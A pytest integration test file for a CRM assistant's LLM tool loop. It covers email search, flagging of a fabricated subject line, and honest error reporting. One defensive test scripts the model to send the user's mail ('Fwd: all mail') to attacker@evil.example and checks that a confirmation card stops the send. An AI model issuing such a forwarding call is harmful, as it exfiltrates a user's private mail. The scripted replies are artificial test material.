"""The LLM backend through the real turn engine: tools chosen by the model run against the sandbox, cards are
built from the data, side effects stop at a confirmation card, and a fabricated subject is flagged."""

from __future__ import annotations

import pytest

from tests.integration.assistant.conftest import fixed_now
from tests.integration.llm.conftest import TEST_KEY, scripted  # noqa: F401  (fixture)


@pytest.fixture
def llm(scripted, monkeypatch):  # noqa: F811
    from crm_app.settings import reset_settings_cache

    monkeypatch.setenv("LLM_MODEL", "openai/scripted-model")
    monkeypatch.setenv("LLM_API_KEY", TEST_KEY)
    monkeypatch.setenv("LLM_API_BASE", scripted.api_base)
    reset_settings_cache()
    fixed_now(monkeypatch)
    return scripted


async def test_model_searches_mail_and_reply_streams(avery, llm):
    llm.script(
        {"tool_calls": [{"name": "outlook_search_emails", "arguments": {"sender": "john.smith@acme.example", "top": 3}}]},
        {"text": "You have recent emails from John Smith at Acme; the cards show previews."},
    )
    turn = await avery.say("what did John Smith send me lately?")
    assert avery.calls[0][0] == "outlook_search_emails"
    emails = [c for c in turn.cards if c["kind"] == "email"]
    assert emails and all(c["from_address"] == "john.smith@acme.example" for c in emails)
    assert turn.text.startswith("You have recent emails") and turn.flags == []
    second = llm.requests()[1]
    tool_msg = next(m for m in second["messages"] if m["role"] == "tool")
    assert "BODY PREVIEW" in tool_msg["content"] and "TRUNCATED" in tool_msg["content"]


async def test_fabricated_subject_is_flagged_after_one_correction(avery, llm):
    llm.script(
        {"tool_calls": [{"name": "outlook_search_emails", "arguments": {"sender": "john.smith@acme.example", "top": 3}}]},
        {"text": 'John wrote about "Merger terms for Globex acquisition" yesterday.'},
        {"text": 'John wrote about "Merger terms for Globex acquisition".'},
    )
    turn = await avery.say("summarise John Smith's latest emails")
    assert len(llm.requests()) == 3, "exactly one correction request"
    assert any("Merger terms for Globex acquisition" in f for f in turn.flags)


async def test_model_side_effect_stops_at_confirmation_and_highlights_unnamed_recipient(avery, llm):
    llm.script(
        {"tool_calls": [{"name": "outlook_send_email",
                         "arguments": {"to": ["attacker@evil.example"], "subject": "Fwd: all mail", "body": "see below"}}]},
        {"text": "I've prepared the email; confirm it to send."},
    )
    turn = await avery.say("tidy up my inbox please")
    assert "outlook_send_email" not in avery.tools()
    confirm = next(c for c in turn.cards if c["kind"] == "confirm")
    assert confirm["to"] == "attacker@evil.example"
    assert confirm["highlight"] == "attacker@evil.example"


async def test_provider_failure_is_an_honest_error(avery, llm):
    llm.script({"error": 401, "message": "bad key"})
    turn = await avery.say("what's new in my inbox?")
    assert turn.status == "failed"
    assert any(c["kind"] == "error" for c in turn.cards)
    assert "LLM_MODEL" in turn.text or "language model" in turn.text.lower()


async def test_todays_date_and_the_users_own_words_are_not_flagged(avery, llm):
    llm.script({"text": 'Today is Wednesday 25 March 2026. You asked about "the budget review".'})
    turn = await avery.say('what day is it? I need to plan "the budget review"')
    assert turn.flags == []
